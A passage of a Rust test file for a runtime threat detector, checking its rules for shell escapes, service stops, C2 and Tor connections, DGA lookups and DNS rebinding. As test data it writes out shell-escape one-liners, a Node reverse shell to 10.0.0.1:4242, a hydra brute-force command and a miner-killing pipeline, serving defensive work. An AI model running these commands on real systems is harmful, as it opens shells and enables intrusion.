                "exec { '/bin/sh -c \"exec sh -i <$(tty) >$(tty) 2>$(tty)\"': }",
            ],
            Some(ESCAPE),
        ),
        (
            &["rpm", "--eval", "%{lua:os.execute(\"/bin/sh\")}"],
            Some(ESCAPE),
        ),
        (&["mysql", "-e", "\\! /bin/sh"], Some(ESCAPE)),
        (
            &[
                "node",
                "-e",
                "require(\"child_process\").spawn(\"/bin/sh\", {stdio: [0, 1, 2]})",
            ],
            Some(ONE_LINER),
        ),
        (
            &[
                "node",
                "-e",
                "var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"sh\", []);\
                 var c=new net.Socket();c.connect(4242,\"10.0.0.1\",function(){c.pipe(sh.stdin);\
                 sh.stdout.pipe(c);sh.stderr.pipe(c);});",
            ],
            Some(ONE_LINER),
        ),
        (
            &[
                "node",
                "-e",
                "require(\"child_process\").spawn(\"/bin/bash\", [\"-i\"], {stdio: \"inherit\"})",
            ],
            Some(ONE_LINER),
        ),
        (&["php", "-r", "system('/bin/sh');"], Some(ONE_LINER)),
        (&["ruby", "-e", "exec \"/bin/sh\""], Some(ONE_LINER)),
        // Their ordinary work.
        (&["cpulimit", "-l", "50", "-e", "gzip"], None),
        (&["csvtool", "col", "1", "data.csv"], None),
        (&["emacs", "--eval", "(server-start)"], None),
        (&["gem", "open", "rails"], None),
        (&["octave-cli", "--eval", "disp(pi)"], None),
        (
            &[
                "openvpn",
                "--config",
                "client.ovpn",
                "--up",
                "/etc/openvpn/update-resolv-conf",
            ],
            None,
        ),
        (&["puppet", "apply", "site.pp"], None),
        (&["rpm", "--eval", "%{_libdir}"], None),
        (&["mysql", "-e", "SHOW DATABASES"], None),
        (
            &[
                "node",
                "-e",
                "require(\"child_process\").spawn(\"/bin/sh\", [\"-c\", \"npm run build\"])",
            ],
            None,
        ),
        (&["php", "-r", "echo phpversion();"], None),
    ];
    for (argv, want) in cases {
        let got = rule_ids(&mut detector(), &exec(argv));
        let want: Vec<String> = want.iter().map(|r| (*r).to_owned()).collect();
        assert_eq!(got, want, "{argv:?}");
    }
}

/// `service` and Debian's `update-rc.d` are scripts: the kernel runs their interpreter, with the
/// script's path as the first argument (`/bin/sh /usr/sbin/service auditd stop`), and the rule
/// sees that argv. Splunk's "Linux Auditd Auditd Service Stop" and "Sysmon Service Stop".
#[test]
fn security_services_stopped_through_the_service_scripts() {
    let script = |interpreter: &str, script: &str, args: &[&str]| {
        let mut argv = vec![interpreter, script];
        argv.extend_from_slice(args);
        let mut e = exec(&argv);
        if let Event::Exec(x) = &mut e {
            x.filename = script.to_owned();
        }
        e
    };
    let cases: [(&str, &str, &[&str], bool); 7] = [
        ("/bin/sh", "/usr/sbin/service", &["auditd", "stop"], true),
        ("/bin/sh", "/usr/sbin/service", &["sysmon", "stop"], true),
        ("/bin/sh", "/usr/sbin/service", &["osqueryd", "stop"], true),
        (
            "/usr/bin/perl",
            "/usr/sbin/update-rc.d",
            &["auditd", "disable"],
            true,
        ),
        ("/bin/sh", "/usr/sbin/service", &["nginx", "stop"], false),
        ("/bin/sh", "/usr/sbin/service", &["auditd", "status"], false),
        (
            "/usr/bin/perl",
            "/usr/sbin/update-rc.d",
            &["nginx", "defaults"],
            false,
        ),
    ];
    for (interpreter, path, args, stopped) in cases {
        let got = rule_ids(&mut detector(), &script(interpreter, path, args));
        let want: Vec<String> = if stopped {
            vec!["evasion-disable-security".into()]
        } else {
            vec![]
        };
        assert_eq!(got, want, "{interpreter} {path} {args:?}");
    }
}

#[test]
fn exec_finding_has_process_context_and_redacted_command() {
    let mut d = detector();
    let out = d.process(
        &exec(&[
            "hydra",
            "-l",
            "root",
            "-p",
            "x",
            "--password=hunter2",
            "ssh://h",
        ]),
        &NoLookup,
    );
    assert_eq!(out.len(), 1);
    let f = &out[0].finding;
    assert!(out[0].new);
    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousTool");
    assert_eq!(f.severity, 7.0);
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.schema_version, "1.0");
    assert_eq!(f.resource.display_name, "node-a");
    assert_eq!(f.resource_role, ResourceRole::Actor);
    assert_eq!(f.count, 1);
    assert_eq!(f.event_first_seen.0.to_string(), "2026-11-27T10:00:00Z");
    let cmd = f.context.command_line_example.as_deref().unwrap();
    assert!(!cmd.contains("hunter2"), "{cmd}");
    assert!(cmd.contains("--password=[REDACTED]"), "{cmd}");
    assert_eq!(f.context.tool_name.as_deref(), Some("brute-forcer"));
    assert_eq!(f.context.additional["mitreTechniques"], "T1110.001");
    let p = f.process.as_ref().unwrap();
    assert_eq!(p.executable_path, "/usr/bin/hydra");
    assert_eq!(p.user.as_deref(), Some("alice"));
    assert_eq!(p.pwd.as_deref(), Some("/home/alice"));
    assert_eq!(p.parent_uuid.as_deref(), Some("uuid-100"));
    assert_eq!(
        p.lineage
            .iter()
            .map(|l| l.name.as_str())
            .collect::<Vec<_>>(),
        ["bash", "systemd"]
    );
    assert_eq!(p.lineage[0].parent_uuid.as_deref(), Some("uuid-1"));
    assert!(!f.description.contains("hunter2"));
}

#[test]
fn repeats_aggregate_into_one_finding() {
    let mut d = detector();
    let first = d.process(&exec(&["nmap", "-sS", "h"]), &NoLookup);
    let mut later = exec(&["nmap", "-sV", "h2"]);
    if let Event::Exec(e) = &mut later {
        e.time = "2026-11-27T10:05:00Z".into();
    }
    let second = d.process(&later, &NoLookup);
    assert!(first[0].new && !second[0].new);
    assert_eq!(first[0].finding.id, second[0].finding.id);
    assert_eq!(second[0].finding.count, 2);
    assert_eq!(
        second[0].finding.event_last_seen.0.to_string(),
        "2026-11-27T10:05:00Z"
    );
    assert_eq!(
        second[0].finding.event_first_seen.0.to_string(),
        "2026-11-27T10:00:00Z"
    );
    // Another tool is another finding.
    let other = d.process(&exec(&["masscan", "h"]), &NoLookup);
    assert!(other[0].new);
    assert_ne!(other[0].finding.id, first[0].finding.id);
    assert_eq!(d.stats().new_findings, 2);
    assert_eq!(d.stats().repeats, 1);
}

#[test]
fn malicious_file_by_sha256() {
    let mut d = detector();
    let mut e = exec(&["/opt/payload"]);
    if let Event::Exec(x) = &mut e {
        x.sha256 = Some(crate::exe_hash::Digest(SHA_BAD));
    }
    let out = d.process(&e, &NoLookup);
    assert_eq!(out.len(), 1);
    let f = &out[0].finding;
    assert_eq!(f.finding_type, "Execution:Runtime/MaliciousFileExecuted");
    let ev = &f.evidence.as_ref().unwrap().threat_intelligence_details[0];
    assert_eq!(ev.threat_list_name, "bad-hashes");
    assert_eq!(ev.indicator, "ab".repeat(32));
    assert!(d.process(&exec(&["/opt/payload"]), &NoLookup).is_empty());
}

fn connect(pid: u32, remote: &str, error: Option<&str>) -> Event {
    Event::Connect(NetInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: process(pid, 1000, 1000, "curl"),
        ret: 0,
        error: error.map(str::to_owned),
        fd: 3,
        family: "inet",
        protocol: "tcp",
        remote: Some(remote.parse::<SocketAddr>().unwrap()),
        unix_path: None,
        repeats: 0,
        outcome: None,
    })
}

#[test]
fn repeats_counted_in_the_kernel_add_to_the_count() {
    let mut d = detector();
    let with_repeats = |repeats| match connect(77, "127.66.0.1:443", None) {
        Event::Connect(mut n) => {
            n.repeats = repeats;
            Event::Connect(n)
        }
        _ => unreachable!(),
    };
    let first = d.process(&with_repeats(0), &NoLookup);
    assert_eq!(first[0].finding.count, 1);
    assert!(first[0].new);
    // A second record that carries 41 identical connects folded in the kernel.
    let second = d.process(&with_repeats(41), &NoLookup);
    assert_eq!(second[0].finding.id, first[0].finding.id);
    assert_eq!(second[0].finding.count, 43);
    assert!(!second[0].new);
    // A fresh detector that first sees a record with repeats starts there.
    let mut d = detector();
    assert_eq!(d.process(&with_repeats(9), &NoLookup)[0].finding.count, 10);
}

#[test]
fn connects_raise_the_types_their_lists_feed() {
    let table: &[(&str, Option<&str>)] = &[
        ("127.66.0.1:443", Some("Backdoor:Runtime/C&CActivity.B")),
        (
            "127.66.0.2:3333",
            Some("CryptoCurrency:Runtime/BitcoinTool.B"),
        ),
        (
            "127.66.0.3:9001",
            Some("UnauthorizedAccess:Runtime/TorClient"),
        ),
        ("127.66.0.4:80", Some("Trojan:Runtime/BlackholeTraffic")),
        ("127.66.0.5:21", Some("Trojan:Runtime/DropPoint")),
        // A relay-only list does not fire on an outbound connect.
        ("127.66.0.6:9001", None),
        ("127.66.1.7:443", Some("Backdoor:Runtime/C&CActivity.B")),
        // Trusted range inside the listed /24.
        ("127.66.1.200:443", None),
        ("127.0.0.1:443", None),
        (
            "[::ffff:127.66.0.1]:443",
            Some("Backdoor:Runtime/C&CActivity.B"),
        ),
    ];
    for (remote, want) in table {
        let mut d = detector();
        let got: Vec<String> = d
            .process(&connect(77, remote, None), &NoLookup)
            .into_iter()
            .map(|o| o.finding.finding_type)
            .collect();
        assert_eq!(
            got,
            want.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            "{remote}"
        );
    }
    let mut d = detector();
    let out = d.process(
        &connect(77, "127.66.0.1:443", Some("ECONNREFUSED")),
        &NoLookup,
    );
    let f = &out[0].finding;
    let n = f.network.as_ref().unwrap();
    assert_eq!((n.remote_ip.as_str(), n.remote_port), ("127.66.0.1", 443));
    assert_eq!(n.protocol, "TCP");
    assert_eq!(f.context.additional["connectResult"], "ECONNREFUSED");
    assert_eq!(
        f.evidence.as_ref().unwrap().threat_intelligence_details[0].threat_list_name,
        "ip-0"
    );
}

#[test]
fn accept_from_a_tor_node_is_a_relay() {
    let mut d = detector();
    let mut e = connect(78, "127.66.0.6:5555", None);
    if let Event::Connect(n) = e {
        e = Event::Accept(n);
    }
    let out = d.process(&e, &NoLookup);
    assert_eq!(out.len(), 1);
    assert_eq!(
        out[0].finding.finding_type,
        "UnauthorizedAccess:Runtime/TorRelay"
    );
    assert_eq!(
        out[0]
            .finding
            .network
            .as_ref()
            .unwrap()
            .connection_direction,
        vigil_crds::finding::ConnectionDirection::Inbound
    );
}

/// An interpreter's process that accepted a TCP connection is a web server to the web-shell
/// checks (`served`): its `sh -c` raises `behaviour-shell-from-web-server`, a reconnaissance
/// program it runs `behaviour-web-server-recon`. Without the accept, after its exit, for a unix
/// socket's accept, or for a program that is no interpreter, neither.
#[test]
fn an_interpreter_that_accepted_a_connection_is_a_web_server() {
    // pid 100 (the parent `exec_as` gives) runs `exe` and accepts on `family`.
    let serving = |exe: &str, family: &'static str| {
        let mut d = detector();
        let mut server = exec_as(&[exe], "bash", 33, 33);
        if let Event::Exec(e) = &mut server {
            e.process = process(100, 33, 33, super::basename(exe));
        }
        d.process(&server, &NoLookup);
        if let Event::Connect(mut n) = connect(100, "127.0.0.1:40000", None) {
            n.family = family;
            d.process(&Event::Accept(n), &NoLookup);
        }
        d
    };
    let shell = |d: &mut Detector, parent: &str| {
        rule_ids(d, &exec_as(&["sh", "-c", "id; uname -a"], parent, 33, 33))
    };
    let recon = |d: &mut Detector, parent: &str| rule_ids(d, &exec_as(&["id"], parent, 33, 33));

    let mut d = serving("/usr/sbin/python3", "inet");
    assert!(
        shell(&mut d, "python3").contains(&"behaviour-shell-from-web-server".to_owned()),
        "{:?}",
        shell(&mut d, "python3")
    );
    assert!(recon(&mut d, "python3").contains(&"behaviour-web-server-recon".to_owned()));
    // The same process's exit forgets it.
    d.process(
        &Event::Exit(ExitInfo {
            time: "2026-11-27T10:00:00Z".into(),
            process: process(100, 33, 33, "python3"),
            exit_status: Some(0),
            signal: None,
        }),
        &NoLookup,
    );
    assert!(!recon(&mut d, "python3").contains(&"behaviour-web-server-recon".to_owned()));

    for (what, mut d) in [
        ("no accept", {
            let mut d = detector();
            let mut server = exec_as(&["/usr/sbin/python3"], "bash", 33, 33);
            if let Event::Exec(e) = &mut server {
                e.process = process(100, 33, 33, "python3");
            }
            d.process(&server, &NoLookup);
            d
        }),
        ("a unix socket", serving("/usr/sbin/python3", "unix")),
        ("not an interpreter", serving("/usr/sbin/sshd", "inet")),
    ] {
        let parent = if what == "not an interpreter" {
            "sshd"
        } else {
            "python3"
        };
        let ids = [shell(&mut d, parent), recon(&mut d, parent)].concat();
        assert!(
            !ids.iter()
                .any(|id| id == "behaviour-shell-from-web-server"
                    || id == "behaviour-web-server-recon"),
            "{what}: {ids:?}"
        );
    }
}

/// `ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs -r kill -9`: the stages
/// exec in any order; the search's miner reaches `xargs kill` through the filters' pipes and
/// raises `behaviour-miner-competitor-kill` once. The same pipeline searching for nginx, a
/// search without a kill, and `xargs kill` reading a grep of a file (no listing on its
/// standard input) raise nothing of it.
#[test]
fn competing_miners_killed_through_a_process_listing() {
    let stage = |pid: u32, argv: &[&str], stdin: Option<u64>, stdout: Option<u64>| {
        let mut e = exec_as(argv, "bash", 0, 0);
        if let Event::Exec(x) = &mut e {
            x.process = process(pid, 0, 0, super::basename(argv[0]));
            x.stdin_pipe = stdin;
            x.stdout_pipe = stdout;
        }
        e
    };
    let pipeline = |miner: &str, order: &[usize]| -> Vec<String> {
        let pattern = format!("[{}]{}", &miner[..1], &miner[1..]);
        let stages = [
            stage(501, &["ps", "aux"], None, Some(1)),
            stage(502, &["grep", "-v", "grep"], Some(1), Some(2)),
            stage(503, &["grep", &pattern], Some(2), Some(3)),
            stage(504, &["awk", "{print $2}"], Some(3), Some(4)),
            stage(505, &["xargs", "-r", "kill", "-9"], Some(4), None),
        ];
        let mut d = detector();
        order
            .iter()
            .flat_map(|&i| rule_ids(&mut d, &stages[i]))
            .filter(|id| id == "behaviour-miner-competitor-kill")
            .collect()
    };
    for order in [
        [0, 1, 2, 3, 4],
        [4, 3, 2, 1, 0],
        [4, 0, 3, 1, 2],
        [2, 4, 1, 0, 3],
    ] {
        assert_eq!(pipeline("xmrig", &order).len(), 1, "{order:?}");
        assert!(pipeline("nginx", &order).is_empty(), "{order:?}");
    }
    let mut d = detector();
    rule_ids(
        &mut d,
        &stage(601, &["pgrep", "-f", "kinsing"], None, Some(9)),
    );
    assert_eq!(
        rule_ids(&mut d, &stage(602, &["xargs", "kill", "-9"], Some(9), None)),
        ["behaviour-miner-competitor-kill"]
    );
    // A search with no kill; a grep of a file into xargs kill.
    let mut d = detector();
    rule_ids(&mut d, &stage(701, &["ps", "aux"], None, Some(11)));
    assert!(rule_ids(&mut d, &stage(702, &["grep", "xmrig"], Some(11), None)).is_empty());
    rule_ids(
        &mut d,
        &stage(703, &["grep", "-l", "xmrig", "a.log"], None, Some(12)),
    );
    assert!(rule_ids(&mut d, &stage(704, &["xargs", "kill"], Some(12), None)).is_empty());
}

fn dns(pid: u32, direction: &'static str, name: &str, answer: Option<&str>) -> Event {
    Event::Dns(DnsInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: process(pid, 1000, 1000, "resolver"),
        direction,
        protocol: "udp",
        resolver: "127.0.0.53:53".parse().unwrap(),
        id: Some(1),
        rcode: answer.map(|_| "NOERROR".into()),
        questions: vec![DnsQuestion {
            name: name.into(),
            qtype: "A".into(),
        }],
        answers: answer
            .map(|a| {
                vec![DnsAnswer {
                    name: name.into(),
                    rtype: if a.contains(':') { "AAAA" } else { "A" }.into(),
                    ttl: 60,
                    data: a.into(),
                }]
            })
            .unwrap_or_default(),
        truncated: false,
        untracked: None,
        parse_error: None,
    })
}

#[test]
fn dns_queries_raise_the_types_their_lists_feed() {
    for (domain, t) in dns_cases() {
        let mut d = detector();
        let name = format!("www.{domain}");
        let out = d.process(&dns(90, "query", &name, None), &NoLookup);
        assert_eq!(out.len(), 1, "{name}");
        assert_eq!(out[0].finding.finding_type, t.as_str());
        assert_eq!(out[0].finding.dns.as_ref().unwrap().domain, name);
        // The answer to the same query adds nothing.
        assert!(
            d.process(&dns(90, "answer", &name, Some("127.0.0.9")), &NoLookup)
                .is_empty()
        );
    }
    let mut d = detector();
    assert!(
        d.process(&dns(90, "query", "example.com", None), &NoLookup)
            .is_empty()
    );
    assert!(
        d.process(&dns(90, "query", "notc2.test", None), &NoLookup)
            .is_empty()
    );
}

/// A DNS message at `second` seconds past 10:00: a query (`rcode` `None`) or an answer with
/// `records` as (owner, type, data).
fn dns_at(
    pid: u32,
    second: u32,
    name: &str,
    rcode: Option<&str>,
    records: &[(&str, &str, &str)],
) -> Event {
    let time = format!(
        "2026-11-27T{:02}:{:02}:{:02}Z",
        10 + second / 3600,
        second / 60 % 60,
        second % 60
    );
    Event::Dns(DnsInfo {
        time,
        process: process(pid, 1000, 1000, "client"),
        direction: if rcode.is_some() { "answer" } else { "query" },
        protocol: "udp",
        resolver: "127.0.0.53:53".parse().unwrap(),
        id: Some(1),
        rcode: rcode.map(str::to_owned),
        questions: vec![DnsQuestion {
            name: name.into(),
            qtype: "A".into(),
        }],
        answers: records
            .iter()
            .map(|(owner, rtype, data)| DnsAnswer {
                name: (*owner).into(),
                rtype: (*rtype).into(),
                ttl: 60,
                data: (*data).into(),
            })
            .collect(),
        truncated: false,
        untracked: None,
        parse_error: None,
    })
}

/// Queries `name` and answers it with `rcode`: the findings of both messages.
fn lookup_name(
    d: &mut Detector,
    lookup: &dyn ProcessLookup,
    pid: u32,
    second: u32,
    name: &str,
    rcode: &str,
) -> Vec<Outcome> {
    let mut out = d.process(&dns_at(pid, second, name, None, &[]), lookup);
    out.extend(d.process(&dns_at(pid, second, name, Some(rcode), &[]), lookup));
    out
}

const GENERATED: [&str; 3] = [
    "xjo4vk9bk1f19hxz.net",
    "qwzx8vj3kq1p7rlt.com",
    "zk3j9vq8xw2m4plr.org",
];

fn dga_findings(out: &[Outcome]) -> Vec<&Finding> {
    out.iter()
        .map(|o| &o.finding)
        .filter(|f| f.finding_type == "Trojan:Runtime/DGADomainRequest.C!DNS")
        .collect()
}

#[test]
fn dga_needs_several_nxdomain_names_from_one_process() {
    let mut d = detector();
    let mut got = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        got.push(lookup_name(&mut d, &NoLookup, 91, i as u32, n, "NXDOMAIN"));
    }
    assert!(
        got[0].is_empty() && got[1].is_empty(),
        "below the threshold"
    );
    assert_eq!(got[2].len(), 1);
    let f = &got[2][0].finding;
    assert_eq!(f.finding_type, "Trojan:Runtime/DGADomainRequest.C!DNS");
    assert_eq!(f.context.additional["dgaDomains"], GENERATED.join(","));
    assert_eq!(f.context.additional["dgaNxdomain"], "3");
    // Spread over three processes: nothing.
    let mut d = detector();
    for (i, n) in GENERATED.iter().enumerate() {
        assert!(lookup_name(&mut d, &NoLookup, 200 + i as u32, 0, n, "NXDOMAIN").is_empty());
    }
    // Ordinary names from one process, even unanswered ones: nothing.
    let mut d = detector();
    for n in [
        "github.com",
        "crates.io",
        "static.crates.io",
        "index.crates.io",
        "deb.debian.org",
    ] {
        assert!(
            lookup_name(&mut d, &NoLookup, 92, 0, n, "NXDOMAIN").is_empty(),
            "{n}"
        );
    }
    // The counter goes with the process.
    let mut d = detector();
    lookup_name(&mut d, &NoLookup, 93, 0, GENERATED[0], "NXDOMAIN");
    lookup_name(&mut d, &NoLookup, 93, 0, GENERATED[1], "NXDOMAIN");
    d.process(
        &Event::Exit(ExitInfo {
            time: "2026-11-27T10:00:00Z".into(),
            process: process(93, 1000, 1000, "client"),
            exit_status: Some(0),
            signal: None,
        }),
        &NoLookup,
    );
    assert!(lookup_name(&mut d, &NoLookup, 93, 1, GENERATED[2], "NXDOMAIN").is_empty());
}

/// An answer whose socket had left the kernel's table, with no task known (pid 0).
fn unowned_answer(second: u32, name: &str, rcode: &str, records: &[(&str, &str, &str)]) -> Event {
    let mut e = dns_at(0, second, name, Some(rcode), records);
    if let Event::Dns(d) = &mut e {
        d.process = ProcessRef {
            cgroup_id: 4242,
            ..ProcessRef::default()
        };
        d.untracked = Some("unknown");
    }
    e
}

#[test]
fn messages_with_no_known_process_raise_intel_findings_and_never_count_towards_dga() {
    // Answers of many processes, none named: they are not one process generating names.
    let mut d = detector();
    for (i, n) in GENERATED.iter().chain(GENERATED.iter()).enumerate() {
        let out = d.process(&unowned_answer(i as u32, n, "NXDOMAIN", &[]), &NoLookup);
        assert!(dga_findings(&out).is_empty(), "{n}: {out:?}");
    }
    // A listed name in such an answer's CNAME chain still raises, with no process.
    for (domain, t) in dns_cases() {
        let mut d = detector();
        let asked = "innocent.example";
        let listed = format!("edge.{domain}");
        let out = d.process(
            &unowned_answer(
                0,
                asked,
                "NOERROR",
                &[
                    (asked, "CNAME", listed.as_str()),
                    (listed.as_str(), "A", "127.0.0.9"),
                ],
            ),
            &NoLookup,
        );
        assert_eq!(out.len(), 1, "{domain}: {out:?}");
        let f = &out[0].finding;
        assert_eq!(f.finding_type, t.as_str());
        assert!(f.process.is_none(), "{f:?}");
        assert!(
            f.description
                .starts_with("A process the agent could not name"),
            "{}",
            f.description
        );
        assert_eq!(
            f.context.additional["dnsSocket"],
            "untracked: no process known, only its cgroup"
        );
    }
}

#[test]
fn dga_prefers_nxdomain_and_counts_within_a_window() {
    // Names that resolve: three are not enough; ten are.
    let mut d = detector();
    for (i, n) in GENERATED.iter().enumerate() {
        assert!(lookup_name(&mut d, &NoLookup, 94, i as u32, n, "NOERROR").is_empty());
    }
    let more: Vec<String> = (0..7)
        .map(|i| format!("q{i}xv9kz3wj7pl{i}mr.com"))
        .collect();
    let mut found = Vec::new();
    for (i, n) in more.iter().enumerate() {
        found.extend(lookup_name(
            &mut d,
            &NoLookup,
            94,
            10 + i as u32,
            n,
            "NOERROR",
        ));
    }
    assert_eq!(dga_findings(&found).len(), 1, "ten resolving names");
    assert_eq!(
        dga_findings(&found)[0].context.additional["dgaNxdomain"],
        "0"
    );
    // Unanswered queries count as names whatever the answer: three are not enough.
    let mut d = detector();
    for (i, n) in GENERATED.iter().enumerate() {
        assert!(
            d.process(&dns_at(95, i as u32, n, None, &[]), &NoLookup)
                .is_empty()
        );
    }
    // Three NXDOMAIN names, 6 minutes apart: the first has left the 10-minute window when the
    // third comes.
    let mut d = detector();
    for (i, n) in GENERATED.iter().enumerate() {
        let out = lookup_name(&mut d, &NoLookup, 96, i as u32 * 360, n, "NXDOMAIN");
        assert!(out.is_empty(), "{n}");
    }
    // The same, 4 minutes apart: within the window.
    let mut d = detector();
    let mut out = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        out = lookup_name(&mut d, &NoLookup, 97, i as u32 * 240, n, "NXDOMAIN");
    }
    assert_eq!(dga_findings(&out).len(), 1);
}

/// Processes the detector has not seen exec, with their executables.
struct Table(Vec<(u32, &'static str)>);

impl ProcessLookup for Table {
    fn get(&self, pid: u32) -> Option<KnownProcess> {
        let (_, exe) = self.0.iter().find(|(p, _)| *p == pid)?;
        Some(KnownProcess {
            pid,
            ppid: 1,
            start_time_ns: u64::from(pid) * 1000,
            comm: "dnsmasq".into(),
            exe: Some(PathBuf::from(exe)),
            sha256: None,
            cwd: None,
            uid: 0,
            euid: 0,
        })
    }
}

#[test]
fn a_local_resolver_forwarding_for_others_never_accumulates() {
    // pid 300: dnsmasq; pid 301: a program named dnsmasq elsewhere; 302-305: clients.
    let table = Table(vec![(300, "/usr/sbin/dnsmasq"), (301, "/tmp/dnsmasq")]);
    let mut d = detector();
    let names: Vec<String> = (0..12)
        .map(|i| format!("k{i}zq8xv3wj9pl{i}mt.net"))
        .collect();
    let mut resolver = Vec::new();
    let mut clients = Vec::new();
    for (i, n) in names.iter().enumerate() {
        let client = 302 + (i as u32 % 4);
        let t = i as u32;
        clients.extend(d.process(&dns_at(client, t, n, None, &[]), &table));
        resolver.extend(d.process(&dns_at(300, t, n, None, &[]), &table));
        resolver.extend(d.process(&dns_at(300, t, n, Some("NXDOMAIN"), &[]), &table));
        clients.extend(d.process(&dns_at(client, t, n, Some("NXDOMAIN"), &[]), &table));
    }
    assert!(resolver.is_empty(), "{resolver:#?}");
    // Each client asked three names: each is found, the resolver never.
    assert_eq!(dga_findings(&clients).len(), 4);

    // The same executable asking names nobody asked: not recognised as a resolver, counted.
    let mut d = detector();
    let mut out = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        out.extend(lookup_name(&mut d, &table, 300, i as u32, n, "NXDOMAIN"));
    }
    assert_eq!(dga_findings(&out).len(), 1, "no forwarding seen");

    // Another executable (named like a resolver) forwarding: counted.
    let mut d = detector();
    let mut out = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        d.process(&dns_at(302, i as u32, n, None, &[]), &table);
        out.extend(lookup_name(&mut d, &table, 301, i as u32, n, "NXDOMAIN"));
    }
    assert_eq!(dga_findings(&out).len(), 1, "/tmp/dnsmasq is no resolver");

    // Forwarding long after the client asked is not forwarding.
    let mut d = detector();
    let mut out = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        d.process(&dns_at(302, i as u32, n, None, &[]), &table);
        out.extend(lookup_name(
            &mut d,
            &table,
            300,
            60 + i as u32,
            n,
            "NXDOMAIN",
        ));
    }
    assert_eq!(dga_findings(&out).len(), 1, "a minute later");
}

#[test]
fn threat_intel_on_dns_answers_matches_addresses_and_the_cname_chain() {
    let cname = |q: &str, target: &str, ip: &str| -> Vec<(String, String, String)> {
        vec![
            (q.into(), "CNAME".into(), target.into()),
            (target.into(), "A".into(), ip.into()),
        ]
    };
    let answer = |d: &mut Detector, pid: u32, q: &str, records: &[(String, String, String)]| {
        let records: Vec<(&str, &str, &str)> = records
            .iter()
            .map(|(a, b, c)| (a.as_str(), b.as_str(), c.as_str()))
            .collect();
        let mut out = d.process(&dns_at(pid, 0, q, None, &[]), &NoLookup);
        out.extend(d.process(&dns_at(pid, 0, q, Some("NOERROR"), &records), &NoLookup));
        out
    };
    // (question, answer records, expected type, why)
    type Case = (
        &'static str,
        Vec<(String, String, String)>,
        Option<FindingType>,
        &'static str,
    );
    let table: &[Case] = &[
        // A CNAME to a listed name (and its subdomains), in the middle of a chain.
        (
            "www.shop.example",
            cname("www.shop.example", "edge.phish.test", "192.0.2.1"),
            Some(FindingType::TrojanPhishingDomainRequestDns),
            "edge.phish.test",
        ),
        (
            "cdn.shop.example",
            vec![
                (
                    "cdn.shop.example".into(),
                    "CNAME".into(),
                    "a.cdn.example".into(),
                ),
                ("a.cdn.example".into(), "CNAME".into(), "c2.test".into()),
                ("c2.test".into(), "A".into(), "192.0.2.2".into()),
            ],
            Some(FindingType::BackdoorCcActivityBDns),
            "c2.test",
        ),
        // Addresses on lists of connection types: their DNS counterparts.
        (
            "update.shop.example",
            vec![(
                "update.shop.example".into(),
                "A".into(),
                "127.66.0.1".into(),
            )],
            Some(FindingType::BackdoorCcActivityBDns),
            "127.66.0.1",
        ),
        (
            "gone.shop.example",
            vec![("gone.shop.example".into(), "A".into(), "127.66.0.4".into())],
            Some(FindingType::TrojanBlackholeTrafficDns),
            "127.66.0.4",
        ),
        (
            "mine.shop.example",
            cname("mine.shop.example", "pool.shop.example", "127.66.0.2"),
            Some(FindingType::CryptoCurrencyBitcoinToolBDns),
            "127.66.0.2",
        ),
        (
            "v6.shop.example",
            vec![(
                "v6.shop.example".into(),
                "AAAA".into(),
                "::ffff:127.66.1.7".into(),
            )],
            Some(FindingType::BackdoorCcActivityBDns),
            "::ffff:127.66.1.7",
        ),
        // A Tor node has no DNS type; a trusted address inside a listed range matches nothing;
        // unlisted answers nothing.
        (
            "tor.shop.example",
            vec![("tor.shop.example".into(), "A".into(), "127.66.0.3".into())],
            None,
            "",
        ),
        (
            "office.shop.example",
            vec![(
                "office.shop.example".into(),
                "A".into(),
                "127.66.1.200".into(),
            )],
            None,
            "",
        ),
        (
            "ok.shop.example",
            cname("ok.shop.example", "edge.cdn.example", "192.0.2.3"),
            None,
            "",
        ),
    ];
    for (q, records, want, indicator) in table {
        let mut d = detector();
        let out = answer(&mut d, 98, q, records);
        match want {
            Some(t) => {
                assert_eq!(out.len(), 1, "{q}: {out:#?}");
                let f = &out[0].finding;
                assert_eq!(f.finding_type, t.as_str(), "{q}");
                assert_eq!(f.dns.as_ref().unwrap().domain, *q);
                assert_eq!(f.context.additional["dnsAnswerListed"], *indicator);
                let evidence = &f.evidence.as_ref().unwrap().threat_intelligence_details;
                assert!(evidence.iter().all(|e| e.indicator == *indicator), "{q}");
            }
            None => assert!(out.is_empty(), "{q}: {out:#?}"),
        }
    }
    // A listed question whose answer is a CNAME to a name on the same list: one finding, from
    // the query.
    let mut d = detector();
    let out = answer(
        &mut d,
        99,
        "www.c2.test",
        &cname("www.c2.test", "edge.c2.test", "192.0.2.4"),
    );
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].finding.count, 1);
}

#[test]
fn metadata_rebind_on_answers() {
    let table: &[(&str, &str, bool)] = &[
        ("rebind.attacker.test", "169.254.169.254", true),
        ("rebind6.attacker.test", "fd00:ec2::254", true),
        ("metadata.google.internal", "169.254.169.254", false),
        ("rebind.attacker.test", "127.0.0.1", false),
    ];
    for (name, ip, want) in table {
        let mut d = detector();
        assert!(
            d.process(&dns(94, "query", name, None), &NoLookup)
                .is_empty()
        );
        let out = d.process(&dns(94, "answer", name, Some(ip)), &NoLookup);
        assert_eq!(out.len(), usize::from(*want), "{name} -> {ip}");
        if *want {
            assert_eq!(
                out[0].finding.finding_type,
                "UnauthorizedAccess:Runtime/MetadataDNSRebind"
            );
            assert_eq!(out[0].finding.dns.as_ref().unwrap().domain, *name);
        }
    }
}

#[test]
fn connect_after_an_answer_names_the_domain() {
    let mut d = detector();
    d.process(
        &dns(95, "answer", "cc.example", Some("127.66.0.1")),
        &NoLookup,
    );
    let out = d.process(&connect(95, "127.66.0.1:443", None), &NoLookup);
    assert_eq!(
        out[0]
            .finding
            .network
            .as_ref()
            .unwrap()
            .remote_domain
            .as_deref(),
        Some("cc.example")
    );
}

#[test]
fn suppression_archives_and_keeps() {
    let rules = parse_rules_file(
        "suppress.yaml",
